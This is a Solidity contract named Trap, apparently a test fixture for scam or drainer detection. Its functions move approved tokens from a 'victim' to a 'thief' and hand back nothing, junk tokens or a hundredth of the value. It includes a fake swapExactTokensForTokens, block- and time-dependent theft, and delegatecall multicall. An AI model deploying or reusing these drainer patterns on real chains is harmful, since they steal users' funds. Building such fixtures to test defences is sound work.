// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {Token} from "./Tokens.sol";
import {OpenToken} from "./Markets.sol";

/// Takes, and gives a coin that is worth nothing, too little, or nothing at all.
contract Trap {
    address payable public immutable thief;
    OpenToken public immutable junk;
    OpenToken public immutable money;

    constructor(address payable thief_, OpenToken junk_, OpenToken money_) {
        thief = thief_;
        junk = junk_;
        money = money_;
    }

    receive() external payable {}

    function fill() external payable {}

    function claimReward(address victim, uint256 value) public {
        money.transferFrom(victim, thief, value);
        junk.mint(victim, 1000 ether);
    }

    function claimFromStock(address victim, uint256 value) public {
        money.transferFrom(victim, address(this), value);
        junk.transfer(victim, 1000 ether);
    }

    function claimFresh(address victim, uint256 value) public {
        money.transferFrom(victim, address(this), value);
        new OpenToken().mint(victim, 1000 ether);
    }

    function claimNothing(address victim, uint256 value) public {
        money.transferFrom(victim, thief, value);
    }

    function claimCrumb(address victim, uint256 value) public {
        money.transferFrom(victim, thief, value);
        (bool isPaid, ) = victim.call{value: 1}("");
        require(isPaid, "not paid");
    }

    /// Gives a hundredth back of what it takes.
    function claimBack(address victim, uint256 value) public {
        money.transferFrom(victim, address(this), value);
        money.transfer(victim, value / 100);
        money.transfer(thief, value - value / 100);
    }

    /// Gives a hundredth in dollars that everybody knows.
    function claimDust(address victim, uint256 value) public {
        money.transferFrom(victim, thief, value);
        OpenToken(0xdAC17F958D2ee523a2206206994597C13D831ec7).mint(victim, value / 100);
    }

    /// Gives a coin of its own, and takes through a helper that is gone afterwards.
    function claimByHelper(address victim, uint256 value) public {
        Helper helper = new Helper();
        money.transferFrom(victim, address(helper), value);
        helper.send(money, thief, value);
        junk.mint(victim, 1000 ether);
    }

    function invest(address victim) public payable {
        thief.transfer(msg.value);
        junk.mint(victim, 1000 ether);
    }

    function investAndKeep(address victim) public payable {
        junk.mint(victim, 1000 ether);
    }

    function investInStock(address victim) public payable {
        junk.transfer(victim, 1000 ether);
    }

    function update(address) public payable {
        thief.transfer(msg.value);
    }

    /// A swap by its name, which gives a hundredth of the least that it is asked for.
    function swapExactTokensForTokens(
        uint256 given,
        uint256 least,
        address[] calldata path,
        address to,
        uint256
    ) external {
        Token(path[0]).transferFrom(msg.sender, thief, given);
        OpenToken(path[path.length - 1]).mint(to, least / 100);
    }

    /// The same for ether, for a coin of its own.
    function swapExactETHForTokens(uint256, address[] calldata, address to, uint256) external payable {
        invest(to);
    }

    /// Honest in even blocks.
    function byNumber(address victim, uint256 value) external {
        if (block.number % 2 == 0) junk.mint(victim, 1);
        else claimNothing(victim, value);
    }

    /// Takes by halves and by wholes.
    function byTime(address victim, uint256 value) external {
        claimReward(victim, block.timestamp % 2 == 0 ? value : value / 100);
    }

    function multicall(bytes[] calldata calls) external payable {
        for (uint256 i = 0; i < calls.length; i++) {
            (bool isDone, ) = address(this).delegatecall(calls[i]);
            require(isDone, "not done");
        }
    }

    /// Another contract in between.
    function relay(address payable to, bytes calldata data) external payable {
        (bool isDone, ) = to.call{value: msg.value}(data);
        require(isDone, "not done");
    }
}

contract Helper {
    function send(Token token, address to, uint256 value) external {
        token.transfer(to, value);
    }
}
